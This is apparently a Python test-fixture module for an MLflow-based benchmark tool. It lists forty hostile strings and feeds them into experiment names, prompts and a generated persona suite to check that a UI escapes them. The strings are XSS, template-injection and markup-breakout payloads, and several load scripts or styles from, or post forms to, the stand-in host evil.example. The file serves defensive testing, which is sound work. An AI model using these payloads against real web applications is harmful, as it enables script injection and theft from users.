"""Forty hostile texts that an attacker could store in MLflow. Shown as text they do nothing.

A page that interprets one of them gets an element with the attribute `data-xss`, opens a dialog or sends a request to
`evil.example`: tests check that none of these happens.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from support.sample_experiment import SampleTexts
from tipbench.plan.suite import load_suite

MARK = "data-xss"

HOSTILE: Mapping[str, str] = {
    "script": "<script data-xss>alert(1)</script>",
    "script from elsewhere": '<script data-xss src="//evil.example/x.js"></script>',
    "image that fails": "<img data-xss src=x onerror=alert(3)>",
    "image without spaces": "<img/data-xss/src=x/onerror=alert(4)>",
    "out of an attribute": '"><img data-xss src=x onerror=alert(5)>',
    "out of a single-quoted attribute": "'><img data-xss src=x onerror=alert(6)>",
    "handler in an attribute": '" data-xss autofocus onfocus=alert(7) x="',
    "handler in a single-quoted attribute": "' data-xss onmouseover=alert(8) style='position:fixed;inset:0' x='",
    "handler without quotes": "x data-xss onclick=alert(9) ",
    "svg that loads": "<svg data-xss onload=alert(10)>",
    "svg that animates": "<svg data-xss><animate onbegin=alert(11) attributeName=x dur=1s>",
    "svg with a script": "<svg data-xss><script>alert(12)</script></svg>",
    "foreign object": "<svg data-xss><foreignObject><iframe src=javascript:alert(13)></foreignObject></svg>",
    "mathml link": '<math data-xss><mtext><a href="javascript:alert(14)">x</a></mtext></math>',
    "javascript address": "javascript:alert(15)//",
    "javascript address in disguise": "\tjAvA\tScRiPt:alert(16)",
    "link": '<a data-xss href="javascript:alert(17)">read on</a>',
    "data address": "data:text/html,<script data-xss>alert(18)</script>",
    "template of the server": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "template of the browser": "${alert(20)}#{7*7}<%= 7*7 %>[[${7*7}]]",
    "constructor": "{{constructor.constructor('alert(21)')()}}",
    "style": "<style data-xss>body{display:none}</style>",
    "style attribute": '<p data-xss style="background:url(//evil.example/css)">x</p>',
    "stylesheet": '<link data-xss rel=stylesheet href="//evil.example/x.css">',
    "end of the text area": "</textarea></title></style></script><img data-xss src=x onerror=alert(25)>",
    "end of the fence": "</pre></code></td></table></main><h1 data-xss>Taken over</h1>",
    "end of a comment": "--><img data-xss src=x onerror=alert(27)><!--",
    "end of a section": "]]><script data-xss>alert(28)</script><![CDATA[",
    "form": '<form data-xss action="//evil.example/"><button autofocus>Log in again</button></form>',
    "new base": '<base data-xss href="//evil.example/"><meta data-xss http-equiv=refresh content="0;//evil.example">',
    "frame": '<iframe data-xss srcdoc="<script>parent.alert(31)</script>"></iframe>',
    "custom element": "<xss data-xss contenteditable onfocus=alert(32) autofocus tabindex=1>",
    "entities": "&lt;img data-xss src=x onerror=alert(33)&gt;&#60;script&#62;&amp;lt;&quot;&NewLine;",
    "wide brackets": "＜script data-xss＞alert(34)＜/script＞ ʺ onload=alert(34)",
    "right to left": "\u202etpircs\u202c\u2066<script data-xss>alert(35)</script>\u2069\u200b\ufeff שלום",
    "control characters": "two\nlines\r\nand\ttabs\x00\x08\x1b[31m<b data-xss>\x7f\x85\u2028\u2029",
    "half a character": "half \ud800 of one<i data-xss>",
    "markdown": "[read](javascript:alert(38)) ![x](//evil.example/x.png) `code` **bold** | a | b | <b data-xss>",
    "out of JSON": '"}],"error":null}\\"\\u003cscript data-xss\\u003ealert(39)</script>\';alert(39)//\\',
    "very long": "W" * 3000 + "<b data-xss>" + "no-space-anywhere" * 300,
}


def valid_name(text: str, longest: int) -> str:
    """The text as a valid name: one printable line, stripped and truncated."""
    plain = "".join(each if each.isprintable() else "·" for each in unicodedata.normalize("NFC", text))
    return plain[:longest].strip() or "·"


def hostile_names(longest: int) -> tuple[str, ...]:
    """All forty texts as valid, different names."""
    names = {valid_name(text, longest): None for text in HOSTILE.values()}
    assert len(names) == len(HOSTILE), "two of them begin alike"
    return tuple(names)


def hostile_texts(folder: Path) -> SampleTexts:
    """The words of an experiment whose models, prompts, judges, servers and suite are all hostile."""
    texts, names = tuple(HOSTILE.values()), hostile_names(60)
    suite = load_suite(str(_hostile_suite(folder)))
    versions = (names[0], names[19], "v/ü " + names[6])
    prompts = {
        version: replace(prompt, version=version)
        for version, prompt in zip(versions, suite.prompts.values(), strict=True)
    }
    return SampleTexts(
        suite=replace(suite, name=str(folder), prompts=prompts),
        models=(names[4], "odd/" + names[10] + "?a=1&b=%2F#x", names[24], names[34]),
        tips=texts,
        rationales=(*texts[1:], texts[0]),
        notes=tuple(text[:4000] for text in (*texts[2:], *texts[:2])),
        judges=(names[2], names[7]),
        failures=tuple(text.replace("\x00", "") for text in texts),
        refused=tuple((name, valid_name(text, 2000)) for name, text in zip(names, texts, strict=True)),
        foreign=names[:3],
        scenarios=hostile_names(190),
    )


def _hostile_suite(folder: Path) -> Path:
    """The built-in suite with one more persona, whose texts are all hostile."""
    lines = [json.dumps(name, ensure_ascii=False).replace("\x7f", "") for name in hostile_names(1500)]
    tasks = "".join(f"[[personas.tasks]]\ntitle = {title}\npriority = 2\nage_days = 3\n" for title in lines[-6:])
    content = f"""name = "hostile"
title = {lines[0]}
extends = "tips"
[[personas]]
id = "mallory"
name = {lines[1]}
role = {lines[2]}
about = {lines[4]}
preferences = [{", ".join(lines[5:20])}]
habits = [{", ".join(lines[20:34])}]
{tasks}"""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "suite.toml").write_text(content, "utf-8")
    return folder
